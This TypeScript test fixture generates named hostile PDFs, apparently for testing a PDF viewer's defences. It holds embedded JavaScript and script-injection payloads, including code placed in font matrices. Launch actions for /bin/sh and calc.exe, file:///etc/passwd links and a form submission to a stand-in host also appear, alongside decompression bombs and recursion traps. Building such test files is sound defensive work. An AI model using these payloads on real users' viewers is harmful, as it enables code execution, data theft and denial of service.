/** PDFs that want to run, reach or fill something: by name, each with text on its first page. */
import { deflateSync } from 'node:zlib';

const stream = (data: Buffer | string, entries = ''): string => {
  const text = typeof data === 'string' ? data : data.toString('latin1');
  return `<<${entries}/Length ${text.length}>>stream\n${text}\nendstream`;
};
const zipped = (text: string, times = 1): string => {
  let bytes = Buffer.from(text, 'latin1');
  for (let at = 0; at < times; at += 1) bytes = deflateSync(bytes, { level: 9 });
  return stream(bytes, `/Filter[${'/FlateDecode'.repeat(times)}]`);
};

const hack = 'parent.hacked = 1; self.hacked = 1; app.alert\\(1\\);';
const markup =
  '<img src="http://stranger.invalid/t.png" onerror="parent.hacked = 1"><script>parent.hacked = 1</script>';
const hello = 'BT /F 20 Tf 20 300 Td (Hello reader) Tj ET ';
const script = `<</S/JavaScript/JS(${hack})>>`;

interface Parts {
  readonly catalog?: string;
  readonly tree?: string;
  readonly page?: string;
  readonly box?: string;
  readonly resources?: string;
  readonly content?: string;
  readonly font?: string;
  /** From number 10 on. */
  readonly more?: readonly string[];
}

/** A PDF of one page; `parts` stand in its objects. */
function pdf({ catalog = '', tree = '', page = '', more = [], ...parts }: Parts): Buffer {
  const objects: readonly [number, string][] = [
    [1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`],
    [2, `<</Type/Pages/Kids[3 0 R]${tree === '' ? '/Count 1' : tree}>>`],
    [
      3,
      `<</Type/Page/Parent 2 0 R/MediaBox ${parts.box ?? '[0 0 400 400]'}/Contents 4 0 R` +
        `/Resources<</Font<</F 5 0 R>>${parts.resources ?? ''}>>${page}>>`,
    ],
    [4, parts.content ?? stream(hello)],
    [5, parts.font ?? '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'],
    ...more.map((body, at): [number, string] => [10 + at, body]),
  ];
  let text = '%PDF-1.7\n';
  const lines = new Map<number, string>();
  for (const [id, body] of objects) {
    lines.set(id, `${String(text.length).padStart(10, '0')} 00000 n \n`);
    text += `${id} 0 obj\n${body}\nendobj\n`;
  }
  const size = 10 + more.length;
  const table = Array.from({ length: size }, (_, id) => lines.get(id) ?? '0000000000 65535 f \n');
  const end = `xref\n0 ${size}\n${table.join('')}trailer\n<</Size ${size}/Root 1 0 R>>\n`;
  return Buffer.from(`${text}${end}startxref\n${text.length}\n%%EOF\n`, 'latin1');
}

const annotation = (entries: string): Parts => ({
  page: `/Annots[<</Type/Annot/Rect[20 20 380 380]${entries}>>]`,
});
const link = (uri: string): string =>
  `<</Type/Annot/Subtype/Link/Rect[20 20 380 380]/A<</S/URI/URI(${uri})>>>>`;
const action = (one: string): Parts => ({
  ...annotation(`/Subtype/Link/A ${one}`),
  catalog: `/OpenAction ${one}/AA<</WC ${one}/WS ${one}>>`,
});
const addresses = [
  'javascript:parent.hacked=1',
  'data:text/html,<script>1</script>',
  'file:///etc/passwd',
];
const form = (fields: string): Parts => ({ catalog: `/AcroForm<</Fields[10 0 R]${fields}>>` });

/** Each PDF by the name of what it tries. */
export const hostilePdfs: Readonly<Record<string, () => Buffer>> = {
  'scripts of the document': () =>
    pdf({
      catalog: `/OpenAction ${script}/AA<</WC ${script}>>/Names<</JavaScript<</Names[(a) ${script}]>>>>`,
      page: `/AA<</O ${script}/C ${script}>>`,
    }),
  'a program to start': () => pdf(action('<</S/Launch/F(/bin/sh)/Win<</F(calc.exe)>>>>')),
  'a form to send': () => pdf(action('<</S/SubmitForm/F(http://stranger.invalid/f)/Flags 4>>')),
  'another file': () => pdf(action('<</S/GoToR/F(http://stranger.invalid/a.pdf)/D[0/Fit]>>')),
  'addresses of other schemes': () =>
    pdf({
      page: `/Annots[${[...addresses, 'https://a:b@stranger.invalid/', 'blob:null/1'].map(link).join('')}]`,
    }),
  'an XFA form': () =>
    pdf({
      ...form('/XFA 11 0 R'),
      more: [
        `<</FT/Tx/T(a)/AA<</K ${script}/F ${script}/C ${script}>>>>`,
        stream(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="a"><event activity="initialize"><script contentType="application/x-javascript">${hack}</script></event><field name="b"><value><exData contentType="text/html">${markup}</exData></value></field></subform></template></xdp:xdp>`,
        ),
      ],
    }),
  'fields with scripts': () =>
    pdf({
      ...form('/NeedAppearances true/CO[10 0 R]'),
      page: '/Annots[10 0 R]',
      more: [
        `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(${markup})/Rect[20 20 380 80]/A ${script}/AA<</E ${script}/Fo ${script}/C ${script}/PO ${script}>>>>`,
      ],
    }),
  'files inside': () =>
    pdf({
      ...annotation('/Subtype/FileAttachment/FS 10 0 R'),
      catalog: '/Names<</EmbeddedFiles<</Names[(a.html) 10 0 R]>>>>',
      more: ['<</Type/Filespec/F(a.html)/EF<</F 11 0 R>>>>', stream(markup)],
    }),
  'notes with markup': () =>
    pdf(
      annotation(`/Subtype/FreeText/Contents(${markup})/RC(<body>${markup}</body>)/DA(/F 12 Tf)`),
    ),
  'media of another server': () =>
    pdf(
      annotation(
        '/Subtype/Screen/A<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</F(http://stranger.invalid/m.mp4)/FS/URL>>>>>>>>',
      ),
    ),
  'a picture of another server': () =>
    pdf({
      resources: '/XObject<</I 10 0 R>>',
      content: stream(`${hello}/I Do`),
      more: [
        '<</Type/XObject/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(http://stranger.invalid/i.png)>>/Length 0>>stream\n\nendstream',
      ],
    }),
  'markup as text, titles and language': () =>
    pdf({
      catalog: `/Lang(${markup})/Outlines 10 0 R`,
      content: stream(`${hello}BT /F 8 Tf 20 200 Td (${markup}) Tj ET`),
      more: [
        '<</First 11 0 R/Last 11 0 R/Count 1>>',
        `<</Title(${markup})/Parent 10 0 R/A<</S/URI/URI(javascript:parent.hacked=1)>>>>`,
      ],
    }),
  'a font with code in its matrix': () =>
    pdf({
      font: `<</Type/Font/Subtype/Type3/FontMatrix[1 0 0 1 0 (0\\); ${hack} //)]/FontBBox[0 0 9 9]/FirstChar 72/LastChar 72/Widths[9]/Encoding<</Differences[72/H]>>/CharProcs<</H 10 0 R>>/Resources<<>>>>`,
      more: [stream('9 0 0 0 9 9 d1 0 0 9 9 re f')],
    }),
  'a Type 1 font with code in its matrix': () => {
    const program = `%!PS-AdobeFont-1.0: A\n/FontName /A def\n/FontMatrix [0.1 0 0 0.1 0 (0\\); ${hack} //)] readonly def\n/Encoding StandardEncoding def\ncurrentfile eexec\n`;
    return pdf({
      font: `<</Type/Font/Subtype/Type1/BaseFont/A/FontMatrix[1 0 0 1 0 (0\\); ${hack} //)]/FontDescriptor 10 0 R/FirstChar 32/LastChar 126>>`,
      more: [
        '<</Type/FontDescriptor/FontName/A/Flags 4/FontFile 11 0 R>>',
        stream(program, `/Length1 ${program.length}/Length2 0/Length3 0`),
      ],
    });
  },
  'a function with code': () =>
    pdf({
      resources: '/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 10 0 R>>>>',
      content: stream(`${hello}/S sh`),
      more: [
        stream(
          '{ exch pop parent.hacked=1 dup 1e999 exp }',
          '/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]',
        ),
      ],
    }),
  'a thousand million pages': () => pdf({ tree: '/Count 1000000000' }),
  'pages in a circle': () => pdf({ tree: '/Count 5/Kids[2 0 R 3 0 R 2 0 R]' }),
  'a page without end': () => pdf({ box: '[0 0 1e12 1e12]', page: '/UserUnit 1e9' }),
  'a page without size': () => pdf({ box: '[5 5 5 5]', page: '/Rotate 1e99' }),
  'content that unfolds': () => pdf({ content: zipped(`${hello}${' '.repeat(300_000_000)}`, 2) }),
  'objects that unfold': () =>
    pdf({
      page: '/Annots 10 0 R',
      more: [`[${'11 0 R '.repeat(50_000)}]`, link('https://stranger.invalid/')],
    }),
  'a picture of 60,000 by 60,000': () =>
    pdf({
      resources: '/XObject<</I 10 0 R>>',
      content: stream(`${hello}q 300 0 0 300 0 0 cm /I Do Q`),
      more: [
        stream(
          deflateSync(Buffer.alloc(1_000_000)),
          '/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode',
        ),
      ],
    }),
  'a form in itself': () =>
    pdf({
      resources: '/XObject<</X 10 0 R>>',
      content: stream(`${hello}/X Do`),
      more: [
        stream(
          '/X Do /X Do',
          '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 10 0 R>>>>',
        ),
      ],
    }),
  'forms that multiply': () =>
    pdf({
      resources: '/XObject<</X 10 0 R>>',
      content: stream(`${hello}/X Do`),
      more: Array.from({ length: 9 }, (_, at) =>
        stream(
          at === 8 ? '0 0 9 9 re f' : '/X Do '.repeat(10),
          `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X ${11 + at} 0 R>>>>`,
        ),
      ),
    }),
  'a pattern of tiny steps': () =>
    pdf({
      resources: '/Pattern<</P 10 0 R>>',
      content: stream(`${hello}/Pattern cs /P scn 0 0 400 200 re f`),
      more: [
        stream(
          '0 0 1 1 re f',
          '/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 1e-7/YStep 1e-7/Resources<<>>',
        ),
      ],
    }),
  'dashes of nearly nothing': () =>
    pdf({ content: stream(`${hello}[1e-5 1e-5] 0 d 50 w 0 0 m 400 200 l S`) }),
  'a very deep array': () => pdf({ page: `/Annots ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
  'very much text': () => pdf({ content: zipped(hello.repeat(150_000)) }),
};
